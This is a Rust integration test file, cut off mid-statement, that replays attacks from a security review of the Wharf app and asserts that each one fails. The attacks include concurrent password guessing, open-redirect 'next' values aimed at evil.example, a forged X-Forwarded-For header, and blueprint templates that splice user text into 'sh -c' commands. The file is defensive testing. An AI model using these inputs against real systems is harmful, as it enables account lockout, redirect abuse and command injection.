//! The attacks of the security review (issue 14), each performed against the real app and seen
//! to fail. One test per finding closed so far; the rest are listed in the note.
use futures_util::StreamExt;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::{Db, eventually, password_of, spawn_app_with};
use crate::on_both_databases;

on_both_databases!(
    concurrent_guesses_never_pass_the_limit,
    unauthenticated_callers_cannot_fill_the_disk,
    nobody_may_take_a_name_wharf_acts_under,
    next_never_leaves_the_site,
    a_stranger_cannot_keep_an_account_locked,
    plain_tcp_engines_are_marked_and_can_be_refused,
    responses_carry_security_headers_and_head_works,
    a_demoted_manager_can_no_longer_approve,
    disabling_and_new_passwords_end_every_way_in,
    live_views_are_capped_per_user,
    containers_run_confined_and_bound,
    inputs_cannot_inject,
    tokens_inbox_and_sso_names,
    a_leavers_deployments_go_to_someone_else,
);

/// Finding 1: 40 wrong passwords at once for one user from one address. At most
/// `max_failures` of them are ever checked (the rest are refused before the slow hash), and
/// the lock holds afterwards, even against the right password.
async fn concurrent_guesses_never_pass_the_limit(db: Db) {
    let app = spawn_app_with(db, json!({"login": {"max_failures": 5, "max_failures_per_address": 1000}})).await;
    let admin = app.seed_team().await;
    let anon = app.anonymous();
    let anon = &anon;
    let guesses = (0..40).map(|i| async move { anon.auth_token("dev", &format!("guess-number-{i}")).await.status() });
    let codes: Vec<StatusCode> = futures_util::stream::iter(guesses).buffer_unordered(40).collect().await;
    let checked = codes.iter().filter(|c| **c == StatusCode::UNAUTHORIZED).count();
    assert!(codes.iter().all(|c| [StatusCode::UNAUTHORIZED, StatusCode::TOO_MANY_REQUESTS].contains(c)), "{codes:?}");
    assert!(checked <= 5, "{checked} guesses were checked: {codes:?}");
    let audit = admin.get_audit_ok("action=login.failed").await;
    let wrong = audit.as_array().unwrap().iter().filter(|e| e["details"]["reason"] == "wrong password").count();
    assert!(wrong <= 5, "{wrong} wrong passwords verified");
    // The lock, once reached, holds: the right password is refused too.
    if checked == 5 {
        assert_eq!(anon.auth_token("dev", &password_of("dev")).await.status(), StatusCode::TOO_MANY_REQUESTS);
    }
}

/// Finding 2: a megabyte-long user name or an OIDC error text is not written anywhere.
async fn unauthenticated_callers_cannot_fill_the_disk(db: Db) {
    let app = spawn_app_with(db, crate::oidc::oidc_settings()).await;
    let admin = app.admin().await;
    let before = admin.get_audit_ok("").await.as_array().unwrap().len();
    let long = "a".repeat(200_000);
    let anon = app.anonymous();
    for _ in 0..3 {
        assert_eq!(anon.auth_token(&long, "whatever-password").await.status(), StatusCode::UNAUTHORIZED);
    }
    let res = app.browser().login(&long, "whatever-password").await;
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    // The provider's error, as anyone can send it: shown bounded, not audited.
    let res = anon.get(&format!("/auth/oidc/callback?error={}&error_description={}", "e".repeat(20_000), "d".repeat(20_000))).await;
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    let page = res.text().await.unwrap();
    assert!(page.len() < 20_000, "the page echoes {} bytes", page.len());
    let after = admin.get_audit_ok("").await;
    let new: Vec<&Value> = after.as_array().unwrap().iter().take(after.as_array().unwrap().len() - before).collect();
    // Only the admin's own logins (for the audit reads) are new.
    assert!(new.iter().all(|e| e["action"] == "token.create"), "{new:?}");
    // A login started for real leaves a pending-login cookie; replayed with the provider's error,
    // it writes a bounded number of rows, however often it is sent.
    let res = anon.get("/auth/oidc/login?next=/catalog").await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let pending: Vec<String> = res
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().split(';').next().unwrap().to_string())
        .filter(|c| c.contains("oidc"))
        .collect();
    assert_eq!(pending.len(), 1, "one pending-login cookie: {pending:?}");
    let replayer = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    for _ in 0..30 {
        let res = replayer
            .get(format!("{}/auth/oidc/callback?error=access_denied", app.address))
            .header("cookie", &pending[0])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    }
    let failures = admin.get_audit_ok("action=login.failed&per_page=100").await;
    let n = failures.as_array().unwrap().len();
    assert!((1..=20).contains(&n), "{n} failed single sign-on logins audited from one address");
}

/// Finding 4: no account may be called `system` (nor take another name Wharf acts under).
async fn nobody_may_take_a_name_wharf_acts_under(db: Db) {
    let app = spawn_app_with(db, json!({})).await;
    let admin = app.admin().await;
    for name in ["system", "SYSTEM", "cli", "oidc", "wharf"] {
        let res = admin.create_user(&json!({"username": name, "password": password_of(name)})).await;
        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        let body: Value = res.json().await.unwrap();
        assert!(body["error"]["message"].as_str().unwrap().contains("reserved"), "{body}");
    }
}

/// Finding 5: `next` after login cannot lead off the site, however it is spelled.
async fn next_never_leaves_the_site(db: Db) {
    let app = spawn_app_with(db, json!({})).await;
    for next in ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "/ /evil.example"] {
        let browser = app.browser();
        let token = browser.csrf_token("/login").await;
        let res = browser
            .post_form(
                "/login",
                &[("csrf_token", &token), ("username", "admin"), ("password", crate::helpers::ADMIN_PASSWORD), ("next", next)],
            )
            .await;
        assert_eq!(res.status(), StatusCode::SEE_OTHER);
        assert_eq!(res.headers()["location"], "/", "{next:?}");
    }
}

/// Finding 12: an attacker who fails on purpose for `dev` locks only their own address; `dev`
/// from another address waits at most a growing pause, then logs in. Addresses come from
/// `X-Forwarded-For` because the test client is a trusted proxy; from an untrusted peer the
/// header is ignored.
async fn a_stranger_cannot_keep_an_account_locked(db: Db) {
    let app = spawn_app_with(db, json!({"trusted_proxies": ["127.0.0.1"], "login": {"max_failures": 3}})).await;
    app.seed_team().await;
    let from = |addr: &'static str| {
        let client = reqwest::Client::new();
        let url = app.url("/api/v1/auth/token");
        move |password: String| {
            let (client, url) = (client.clone(), url.clone());
            async move {
                client
                    .post(url)
                    .header("x-forwarded-for", format!("6.6.6.6, {addr}"))
                    .json(&json!({"username": "dev", "password": password}))
                    .send()
                    .await
                    .unwrap()
            }
        }
    };
    // dev has logged in from their usual place before.
    let usual = from("192.0.2.10");
    assert_eq!(usual(password_of("dev")).await.status(), StatusCode::CREATED);
    let attacker = from("198.51.100.66");
    for i in 0..6 {
        let res = attacker(format!("wrong-{i}")).await;
        assert!([StatusCode::UNAUTHORIZED, StatusCode::TOO_MANY_REQUESTS].contains(&res.status()));
    }
    // The attacker's address is locked for dev, even with the right password.
    assert_eq!(attacker(password_of("dev")).await.status(), StatusCode::TOO_MANY_REQUESTS);
    // dev, elsewhere: at most a pause, then in.
    let dev = from("203.0.113.7");
    let mut res = dev(password_of("dev")).await;
    if res.status() == StatusCode::TOO_MANY_REQUESTS {
        let wait: u64 = res.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!(wait <= 60, "a pause, not a lock: {wait} s");
        tokio::time::sleep(std::time::Duration::from_secs(wait)).await;
        res = dev(password_of("dev")).await;
    }
    assert_eq!(res.status(), StatusCode::CREATED);
    // From their usual place, no pause at all, however many failures came from elsewhere.
    for i in 0..4 {
        let res = attacker(format!("again-{i}")).await;
        assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS);
    }
    assert_eq!(usual(password_of("dev")).await.status(), StatusCode::CREATED, "a known place is not held back");
    // The audit log names the addresses the proxy saw, not the forged first hop.
    let admin = app.admin().await;
    let audit = admin.get_audit_ok("action=login.failed").await;
    let seen = |e: &Value| ["198.51.100.66", "203.0.113.7"].contains(&e["details"]["address"].as_str().unwrap_or_default());
    assert!(audit.as_array().unwrap().iter().all(seen), "{audit}");
}

/// Finding 13: a plain tcp:// engine is marked insecure, and refused when the operator says so.
async fn plain_tcp_engines_are_marked_and_can_be_refused(db: Db) {
    let plain = crate::helpers::docker_hosts()[1].clone();
    assert!(plain.starts_with("tcp://"), "the second test host listens on plain TCP");
    let app = spawn_app_with(db, json!({})).await;
    let admin = app.admin().await;
    let res = admin.register_host(&json!({"name": "plain", "endpoint": plain})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let host: Value = res.json().await.unwrap();
    assert_eq!(host["insecure"], true, "{host}");
    let (_, page) = {
        let b = app.browser();
        b.login_ok("admin", crate::helpers::ADMIN_PASSWORD).await;
        b.page("/admin/hosts").await
    };
    assert!(page.contains("insecure: no TLS"), "the hosts page warns");
    let strict =
        spawn_app_with(db, json!({"hosts": {"register_local": false, "health_interval_secs": 1, "allow_insecure_tcp": false}})).await;
    let res = strict.admin().await.register_host(&json!({"name": "plain", "endpoint": plain})).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = res.json().await.unwrap();
    assert!(body["error"]["message"].as_str().unwrap().contains("allow_insecure_tcp"), "{body}");
}

/// Finding 14 (in part): security headers on pages and API answers, a CSP without inline
/// script, no caching of what is made for one caller, and HEAD wherever GET is.
async fn responses_carry_security_headers_and_head_works(db: Db) {
    let app = spawn_app_with(db, json!({})).await;
    let anon = app.anonymous();
    for path in ["/login", "/api/v1/openapi.json", "/healthz"] {
        let res = anon.get(path).await;
        let h = res.headers();
        let csp = h["content-security-policy"].to_str().unwrap();
        assert!(
            csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
            "{path}: {csp}"
        );
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
    }
    assert_eq!(anon.get("/login").await.headers()["cache-control"], "no-store");
    for path in ["/login", "/api/v1/openapi.json", "/healthz", "/static/css/wharf.css"] {
        let res = reqwest::Client::new().head(app.url(path)).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::OK, "HEAD {path}");
        assert!(res.bytes().await.unwrap().is_empty(), "HEAD {path} has no body");
    }
}

/// Finding 3: who may decide is who holds the role when deciding, not who held it when the
/// request was submitted. A demoted manager can neither see nor approve; a level left with
/// nobody falls to the admins; a manager promoted since can approve.
async fn a_demoted_manager_can_no_longer_approve(db: Db) {
    let app = crate::helpers::spawn_app(db).await;
    let w = crate::requests::world(&app).await;
    let policy = json!({"name": "managers", "levels": [{"approvers": {"group_managers": true}, "mode": "any"}]});
    assert_eq!(w.admin.create_approval_policy(&policy).await.status(), StatusCode::CREATED);
    let res = w.dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {}})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let r: Value = res.json().await.unwrap();
    let id = r["id"].as_str().unwrap().to_string();
    assert_eq!(r["waiting_on"], json!(["lead"]));

    assert_eq!(w.admin.set_member("team-a", "lead", "member").await.status(), StatusCode::OK);
    let res = w.lead.approve(&id).await;
    assert!([StatusCode::FORBIDDEN, StatusCode::NOT_FOUND].contains(&res.status()), "{}", res.status());
    assert_eq!(w.lead.list_approvals_ok().await, json!([]), "nothing in a former manager's inbox");
    let r = w.admin.get_request_ok(&id).await;
    assert_eq!(r["status"], "pending_approval");
    assert_eq!(r["waiting_on"], json!(["admin"]), "a level left with nobody falls to the admins");
    // The names at submission stay in explain, as information.
    assert_eq!(r["explain"]["levels"][0]["approvers"], json!(["lead"]));

    let res = w.admin.create_user(&json!({"username": "ops", "password": password_of("ops")})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    assert_eq!(w.admin.set_member("team-a", "ops", "manager").await.status(), StatusCode::OK);
    let ops = app.api_as("ops", &password_of("ops")).await;
    assert_eq!(w.admin.get_request_ok(&id).await["waiting_on"], json!(["ops"]));
    let res = ops.approve(&id).await;
    assert_eq!(res.status(), StatusCode::OK, "{}", res.text().await.unwrap_or_default());
    let r = w.admin.get_request_ok(&id).await;
    assert_ne!(r["status"], "pending_approval", "{r}");
}

/// Finding 10: accounts have a life. Disabling ends every session and token at once; an
/// admin's reset does too; one's own new password (with the current one) ends the other
/// sessions and all tokens; a demoted admin loses admin routes with the token they hold; the
/// last admin cannot be demoted; nobody promotes themselves.
async fn disabling_and_new_passwords_end_every_way_in(db: Db) {
    let app = crate::helpers::spawn_app(db).await;
    let admin = app.seed_team().await;
    let dev_token = app.api_as("dev", &password_of("dev")).await;
    let dev_browser = app.browser();
    dev_browser.login_ok("dev", &password_of("dev")).await;

    // Disabled: the token and the session stop at once, and the password no longer logs in.
    let res = admin.update_user("dev", &json!({"is_active": false})).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.json::<Value>().await.unwrap()["is_active"], false);
    assert_eq!(dev_token.get_me().await.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(dev_browser.get("/profile").await.status(), StatusCode::SEE_OTHER);
    assert_eq!(app.anonymous().auth_token("dev", &password_of("dev")).await.status(), StatusCode::UNAUTHORIZED);
    // Enabled again, with a fresh login only.
    assert_eq!(admin.update_user("dev", &json!({"is_active": true})).await.status(), StatusCode::OK);
    assert_eq!(dev_token.get_me().await.status(), StatusCode::UNAUTHORIZED, "old tokens stay revoked");
    let dev = app.api_as("dev", &password_of("dev")).await;

    // Nobody promotes themselves, or changes another account.
    assert_eq!(dev.update_user("dev", &json!({"is_admin": true})).await.status(), StatusCode::FORBIDDEN);
    assert_eq!(dev.update_user("lead", &json!({"display_name": "owned"})).await.status(), StatusCode::FORBIDDEN);

    // One's own new password needs the current one; it ends every token (this one included)
    // and every session.
    let res = dev.update_user("dev", &json!({"password": "brand-new-password", "current_password": "not-the-old-one"})).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let b2 = app.browser();
    b2.login_ok("dev", &password_of("dev")).await;
    let res = dev.update_user("dev", &json!({"password": "brand-new-password", "current_password": password_of("dev")})).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(dev.get_me().await.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(b2.get("/profile").await.status(), StatusCode::SEE_OTHER);
    assert_eq!(app.anonymous().auth_token("dev", "brand-new-password").await.status(), StatusCode::CREATED);

    // From the profile page: this browser stays, the others go.
    let here = app.browser();
    here.login_ok("dev", "brand-new-password").await;
    let there = app.browser();
    there.login_ok("dev", "brand-new-password").await;
    let res =
        here.submit("/profile", "/profile/password", &[("current_password", "brand-new-password"), ("password", "third-password-1")]).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(here.get("/profile").await.status(), StatusCode::OK);
    assert_eq!(there.get("/profile").await.status(), StatusCode::SEE_OTHER);

    // An admin's reset ends lead's token.
    let lead = app.api_as("lead", &password_of("lead")).await;
    assert_eq!(admin.update_user("lead", &json!({"password": "reset-by-admin-1"})).await.status(), StatusCode::OK);
    assert_eq!(lead.get_me().await.status(), StatusCode::UNAUTHORIZED);

    // A demoted admin loses admin routes with the token they hold.
    let res = admin.create_user(&json!({"username": "ops", "password": password_of("ops"), "is_admin": true})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let ops = app.api_as("ops", &password_of("ops")).await;
    assert_eq!(ops.list_users("").await.status(), StatusCode::OK);
    assert_eq!(admin.update_user("ops", &json!({"is_admin": false})).await.status(), StatusCode::OK);
    assert_eq!(ops.list_users("").await.status(), StatusCode::FORBIDDEN);

    // The last admin stays an admin, and nobody disables themselves.
    let res = admin.update_user("admin", &json!({"is_admin": false})).await;
    assert_eq!(res.status(), StatusCode::CONFLICT);
    assert_eq!(admin.update_user("admin", &json!({"is_active": false})).await.status(), StatusCode::CONFLICT);
    // Every change is audited, without the passwords.
    let audit = admin.get_audit_ok("action=user.update").await;
    assert!(audit.as_array().unwrap().len() >= 6, "{audit}");
    assert!(!audit.to_string().contains("brand-new-password"));
}

/// Finding 9: secrets at rest. A secret input and a Docker TLS client key never reach the
/// database file in clear; a replica with another key stops at start-up, saying so; `wharf
/// secrets rotate` seals everything again with a new key, after which the old one is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_are_sealed_at_rest_and_keys_rotate() {
    use crate::helpers::{ADMIN_PASSWORD, env, fresh_database, serve, wharf_command};
    let url = fresh_database(Db::Sqlite).await;
    let file = url.trim_start_matches("sqlite://").split('?').next().unwrap().to_string();
    let key_file = format!("{file}.key");
    let envs = [
        ("WHARF_DATABASE_URL", url.as_str()),
        ("WHARF_SECRET_KEY_FILE", key_file.as_str()),
        ("WHARF_ADMIN_PASSWORD", ADMIN_PASSWORD),
        ("WHARF_HOSTS__REGISTER_LOCAL", "false"),
        ("WHARF_CATALOG_DIR", "/nonexistent/wharf-test-catalog"),
    ];
    let secret = "s3cret-value-for-the-test";
    let tls_key = std::fs::read_to_string(format!("{}/key.pem", env("WHARF_TEST_TLS_DIR"))).unwrap();
    let key_line = tls_key.lines().nth(1).unwrap().to_string();
    {
        let served = tokio::task::block_in_place(|| serve(&["serve"], &envs));
        let app = served.app();
        let w = crate::requests::world(&app).await;
        let res = w.dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {"password": secret}})).await;
        assert_eq!(res.status(), StatusCode::CREATED, "{}", res.text().await.unwrap_or_default());
        let pem = |n: &str| std::fs::read_to_string(format!("{}/{n}", env("WHARF_TEST_TLS_DIR"))).unwrap();
        let res = w
            .admin
            .register_host(&json!({"name": "tls", "endpoint": env("WHARF_TEST_TLS_ENDPOINT"),
                "tls": {"ca_pem": pem("ca.pem"), "cert_pem": pem("cert.pem"), "key_pem": tls_key}}))
            .await;
        assert_eq!(res.status(), StatusCode::CREATED);
        // The deployment got the secret: it was opened to provision.
        eventually(120, "the request to be provisioned", || async {
            let r = w.dev.get_request_ok(w.dev.list_requests_ok("").await[0]["id"].as_str().unwrap()).await;
            (r["status"] == "succeeded").then_some(())
        })
        .await;
        let deployments = w.dev.list_deployments_ok().await;
        let id = deployments[0]["id"].as_str().unwrap().to_string();
        assert_eq!(w.dev.deployment_action(&id, "destroy").await.status(), StatusCode::ACCEPTED);
        eventually(60, "the deployment to go", || async { (w.admin.get_deployment_ok(&id).await["status"] == "destroyed").then_some(()) })
            .await;
        // A replica still runs: rotation is refused, and says which.
        let mut cmd = wharf_command();
        cmd.args(["secrets", "rotate"]);
        for (k, v) in &envs {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        assert!(!out.status.success(), "rotation with a replica running");
        let said = String::from_utf8_lossy(&out.stderr);
        assert!(said.contains("still serve this database") && said.contains(&format!("pid {}", served.child.id())), "{said}");
        drop(w);
        assert!(served.stop().success(), "a clean stop");
    }
    let mut bytes = std::fs::read(&file).unwrap();
    bytes.extend(std::fs::read(format!("{file}-wal")).unwrap_or_default());
    let text = String::from_utf8_lossy(&bytes);
    assert!(!text.contains(secret), "a secret input is in the database file in clear");
    assert!(!text.contains(&key_line), "a TLS key is in the database file in clear");
    assert!(text.contains("wharf-sealed:v1:"), "sealed values are there");

    // Another key: start-up stops, saying why.
    let wrong = format!("{file}.wrong-key");
    let run = |key: &str, args: &[&str]| {
        let mut cmd = wharf_command();
        cmd.args(args).env("WHARF_DATABASE_URL", &url).env("WHARF_SECRET_KEY_FILE", key).env("WHARF_HOSTS__REGISTER_LOCAL", "false");
        cmd.env("WHARF_CATALOG_DIR", "/nonexistent/wharf-test-catalog").env("WHARF_BIND", "127.0.0.1:0");
        cmd.output().unwrap()
    };
    let out = run(&wrong, &["serve"]);
    assert!(!out.status.success());
    let said = format!("{}{}", String::from_utf8_lossy(&out.stderr), String::from_utf8_lossy(&out.stdout));
    assert!(said.contains("does not open what this database holds"), "{said}");

    // Rotation: the new key works, the old one is refused.
    let out = run(&key_file, &["secrets", "rotate"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("1 host key(s)"), "{}", String::from_utf8_lossy(&out.stdout));
    let out = run(&format!("{file}.old"), &["serve"]);
    assert!(!out.status.success(), "the old key no longer opens the database");
    let envs = [
        ("WHARF_DATABASE_URL", url.as_str()),
        ("WHARF_SECRET_KEY_FILE", key_file.as_str()),
        ("WHARF_HOSTS__REGISTER_LOCAL", "false"),
        ("WHARF_CATALOG_DIR", "/nonexistent/wharf-test-catalog"),
    ];
    let served = tokio::task::block_in_place(|| serve(&["serve"], &envs));
    let admin = served.app().admin().await;
    // The TLS host still connects: its key opened with the new key.
    eventually(30, "the TLS host to be up", || async { (admin.get_host_ok("tls").await["status"] == "up").then_some(()) }).await;
}

/// Finding 11: live views come from one change feed, and one user cannot open them without
/// bound: the ninth at once is refused (429) while another user still gets theirs; a decision
/// still reaches every open view.
async fn live_views_are_capped_per_user(db: Db) {
    let app = crate::helpers::spawn_app(db).await;
    let w = crate::requests::world(&app).await;
    let policy = json!({"name": "hold", "levels": [{"approvers": {"group_managers": true}, "mode": "any"}]});
    assert_eq!(w.admin.create_approval_policy(&policy).await.status(), StatusCode::CREATED);
    let res = w.dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {}})).await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let id = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    let dev = app.browser();
    dev.login_ok("dev", &password_of("dev")).await;
    let path = format!("/requests/{id}/events");
    let mut open = Vec::new();
    for _ in 0..crate::helpers::MAX_STREAMS_PER_USER {
        let res = dev.get(&path).await;
        assert_eq!(res.status(), StatusCode::OK);
        open.push(res);
    }
    let res = dev.get(&path).await;
    assert_eq!(res.status(), StatusCode::TOO_MANY_REQUESTS, "one stream too many");
    let lead = app.browser();
    lead.login_ok("lead", &password_of("lead")).await;
    let theirs = lead.get(&path).await;
    assert_eq!(theirs.status(), StatusCode::OK, "another user is not affected");
    // The decision reaches an open view through the feed.
    assert_eq!(w.lead.approve(&id).await.status(), StatusCode::OK);
    let mut body = open.pop().unwrap();
    let seen = tokio::time::timeout(std::time::Duration::from_secs(20), async {
        let mut text = String::new();
        while let Ok(Some(chunk)) = body.chunk().await {
            text.push_str(&String::from_utf8_lossy(&chunk));
            if text.contains("\"status\":\"approved\"") || text.contains("\"status\":\"provisioning\"") {
                return text;
            }
        }
        text
    })
    .await
    .expect("the view heard of the decision within 20 s");
    assert!(seen.contains("event: status"), "{seen}");

    // A view opened on a request that closed before it (cancelled here) is told that it is
    // closed, and ends (its place goes back at once): the page's script stops on that word.
    let res = w.dev.submit_request(&json!({"catalog_item": "web", "group": "team-a", "inputs": {}})).await;
    let other = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    assert_eq!(w.dev.post(&format!("/api/v1/requests/{other}/cancel"), &json!({})).await.status(), StatusCode::OK);
    let mut view = lead.get(&format!("/requests/{other}/events")).await;
    assert_eq!(view.status(), StatusCode::OK);
    let told = tokio::time::timeout(std::time::Duration::from_secs(20), async {
        let mut text = String::new();
        while let Ok(Some(chunk)) = view.chunk().await {
            text.push_str(&String::from_utf8_lossy(&chunk));
        }
        text
    })
    .await
    .expect("the view of a closed request ends");
    assert!(told.contains("event: status") && told.contains("\"status\":\"cancelled\"") && told.contains("\"open\":false"), "{told}");
    assert!(told.contains("cancelled the request"), "the backlog comes first: {told}");
}

/// What Docker was asked for one container of a deployment: `docker inspect`'s HostConfig.
fn host_config(endpoint: &str, deployment: &str) -> Value {
    let filter = format!("label=io.wharf.deployment={deployment}");
    let id = crate::helpers::docker(endpoint, &["ps", "-q", "--filter", &filter]).lines().next().expect("a container").to_string();
    let out = crate::helpers::docker(endpoint, &["inspect", "--format", "{{json .HostConfig}}", &id]);
    serde_json::from_str(&out).unwrap()
}

/// Findings 6 and 7: a container runs with limits even when its blueprint sets none (memory,
/// CPUs, processes; counted against the quota), all capabilities dropped but a short list,
/// no-new-privileges; published ports bind to the host's bind address, not every interface;
/// a host port chosen through an input must fall in the host's range; a group without a quota
/// gets the default one.
async fn containers_run_confined_and_bound(db: Db) {
    let app = spawn_app_with(db, json!({"default_quota": {"max_containers": 2}})).await;
    let admin = app.admin().await;
    let endpoint = crate::helpers::docker_hosts()[0].clone();
    // The test daemon binds to 127.0.0.1 by default: 127.0.0.2 shows that Wharf chose.
    let res = admin
        .register_host(&json!({"name": "h1", "endpoint": endpoint, "publish_address": "h1.example", "bind_address": "127.0.0.2",
            "host_ports": "30000-30100"}))
        .await;
    assert_eq!(res.status(), StatusCode::CREATED, "{}", res.text().await.unwrap_or_default());
    let host: Value = admin.get_host_ok("h1").await;
    assert_eq!(host["binds"], "127.0.0.2");
    assert_eq!(host["host_ports"], "30000-30100");
    let bp = crate::fixtures::blueprint(crate::fixture!("blueprints/sleep.yaml"), &[("id", "plain"), ("name", "Plain")]);
    assert_eq!(admin.publish_blueprint(&bp).await.status(), StatusCode::CREATED);
    let res = admin.deploy_blueprint("plain", &json!({"inputs": {}})).await;
    assert_eq!(res.status(), StatusCode::ACCEPTED, "{}", res.text().await.unwrap_or_default());
    let d: Value = res.json().await.unwrap();
    let id = d["id"].as_str().unwrap().to_string();
    eventually(60, "the deployment to run", || async { (admin.get_deployment_ok(&id).await["status"] == "running").then_some(()) }).await;
    let hc = host_config(&endpoint, &id);
    assert_eq!(hc["Memory"], 512 * 1024 * 1024, "{hc}");
    assert_eq!(hc["NanoCpus"], 1_000_000_000i64, "{hc}");
    assert_eq!(hc["PidsLimit"], 512, "{hc}");
    assert_eq!(hc["CapDrop"], json!(["ALL"]), "{hc}");
    assert!(hc["CapAdd"].as_array().unwrap().iter().any(|c| c == "NET_BIND_SERVICE"), "{hc}");
    assert!(!hc["CapAdd"].as_array().unwrap().iter().any(|c| c == "NET_RAW"), "{hc}");
    assert_eq!(hc["SecurityOpt"], json!(["no-new-privileges:true"]), "{hc}");

    // Published ports bind to the host's bind address.
    let web = crate::fixtures::blueprint(crate::fixture!("blueprints/input-port.yaml"), &[]);
    assert_eq!(admin.publish_blueprint(&web).await.status(), StatusCode::CREATED);
    // One port per database: the two variants of this test run at once on one daemon.
    let port = if db == Db::Sqlite { 30042 } else { 30043 };
    let res = admin.deploy_blueprint("input-port", &json!({"inputs": {"port": port}})).await;
    assert_eq!(res.status(), StatusCode::ACCEPTED);
    let web_id = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    eventually(60, "the web deployment to run", || async { (admin.get_deployment_ok(&web_id).await["status"] == "running").then_some(()) })
        .await;
    let hc = host_config(&endpoint, &web_id);
    assert_eq!(hc["PortBindings"]["80/tcp"][0]["HostIp"], "127.0.0.2", "{hc}");
    assert_eq!(hc["PortBindings"]["80/tcp"][0]["HostPort"], port.to_string(), "{hc}");
    // A port outside the host's range for input ports: refused, saying why.
    let res = admin.deploy_blueprint("input-port", &json!({"inputs": {"port": 22}})).await;
    let bad = res.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
    let d = eventually(60, "the deployment to fail", || async {
        let d = admin.get_deployment_ok(&bad).await;
        (d["status"] == "failed").then_some(d)
    })
    .await;
    assert!(d["error"].as_str().unwrap().contains("outside the range"), "{d}");
    for d in [&id, &web_id] {
        assert_eq!(admin.deployment_action(d, "destroy").await.status(), StatusCode::ACCEPTED);
    }

    // A group without a quota gets the default one: 2 containers.
    let bp = crate::fixtures::blueprint(crate::fixture!("blueprints/sleep.yaml"), &[("id", "box"), ("name", "Box")]);
    assert_eq!(admin.publish_blueprint(&bp).await.status(), StatusCode::CREATED);
    let res = admin
        .create_catalog_item(
            &json!({"id": "box", "name": "Box", "category": "T", "blueprint": "box", "lease": {"default_days": 1, "max_days": 1}}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    assert_eq!(admin.create_group(&json!({"name": "free"})).await.status(), StatusCode::CREATED);
    assert_eq!(admin.create_user(&json!({"username": "fred", "password": password_of("fred")})).await.status(), StatusCode::CREATED);
    assert_eq!(admin.set_member("free", "fred", "member").await.status(), StatusCode::OK);
    assert_eq!(admin.create_entitlement(&json!({"group": "free", "catalog_items": ["box"]})).await.status(), StatusCode::CREATED);
    let policy = json!({"name": "hold", "levels": [{"approvers": {"admins": true}, "mode": "any"}]});
    assert_eq!(admin.create_approval_policy(&policy).await.status(), StatusCode::CREATED);
    let fred = app.api_as("fred", &password_of("fred")).await;
    let body = json!({"catalog_item": "box", "group": "free", "inputs": {}});
    assert_eq!(fred.submit_request(&body).await.status(), StatusCode::CREATED);
    let r: Value = fred.submit_request(&body).await.json().await.unwrap();
    assert_eq!(r["explain"]["quota"]["requested"]["memory_mb"], 512, "the default memory is counted: {r}");
    let res = fred.submit_request(&body).await;
    assert_eq!(res.status(), StatusCode::CONFLICT, "over the default quota");
}

/// Finding 8: a requester's free text cannot choose an image, a user or a host path, or run in
/// a shell; patterns match whole values; an engine's error reaches a requester without the
/// platform's addresses.
async fn inputs_cannot_inject(db: Db) {
    let app = crate::helpers::spawn_app(db).await;
    let w = crate::requests::world(&app).await;
    let refused = [
        ("image: \"${inputs.free}\"\n", "image may use"),
        ("image: {{image}}\n    user: \"${inputs.free}\"\n", "user may use"),
        ("image: {{image}}\n    command: [\"sh\", \"-c\", \"echo ${inputs.free}\"]\n", "in a script"),
        ("image: {{image}}\n    entrypoint: [\"/bin/bash\"]\n    command: [\"-c\", \"run ${inputs.free}\"]\n", "in a script"),
    ];
    for (i, (component, said)) in refused.iter().enumerate() {
        let source = format!(
            "id: inject-{i}\nname: Inject\nversion: 1\ninputs:\n  free: {{ type: string }}\ncomponents:\n  app:\n    {}",
            component.replace("{{image}}", &crate::helpers::test_image())
        );
        let res = w.admin.publish_blueprint(&source).await;
        assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY, "{source}");
        let body: Value = res.json().await.unwrap();
        assert!(body.to_string().contains(said), "{said}: {body}");
        assert!(body["error"]["details"][0]["line"].as_u64().is_some(), "the error says where: {body}");
    }
    // An enum, or a pattern in a shell script, is fine.
    let ok = format!(
